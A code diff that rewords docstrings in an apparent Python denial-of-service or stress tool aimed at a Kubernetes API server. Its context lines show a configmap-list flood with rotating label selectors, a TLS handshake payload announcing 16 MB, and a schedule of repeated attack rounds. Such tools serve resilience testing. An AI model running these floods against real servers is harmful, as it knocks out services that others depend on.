@@ -164,7 +164,7 @@ async def watches_under_selectors(aim: Aim) -> None:
 
 
 async def sources_of_the_node(aim: Aim) -> None:
-    """Lists of a process of the node, each under another selector."""
+    """Send lists as a process of the node, each with another selector."""
     target = f"{IN_DEFAULT}configmaps?resourceVersion=0&labelSelector=%21y{next(aim.numbers)}"
     async with opened(aim.plain) as (reader, writer):
         writer.write(head("GET", target))
@@ -195,7 +195,7 @@ async def body_on_a_view(aim: Aim) -> None:
 
 
 async def endless_handshake(aim: Aim) -> None:
-    """The first message of TLS says that it has 16 MB."""
+    """Send a first TLS message that announces 16 MB."""
     record = b"\x16\x03\x01\x40\x00"
     begin = record + b"\x01\xff\xff\xff" + bytes(0x4000 - 4)
     await poured(aim.tls, None, begin, record + bytes(0x4000))
@@ -244,7 +244,7 @@ ATTACKS: tuple[tuple[Attack, float], ...] = (
     (unread_lists, 0.5),
     (endless_handshake, 0.5),
 )
-"""Each attack, and the seconds between two rounds of it."""
+"""Each attack, and the seconds between its rounds."""
 
 
 async def repeat(aim: Aim, attack: Attack, pause: float) -> None:
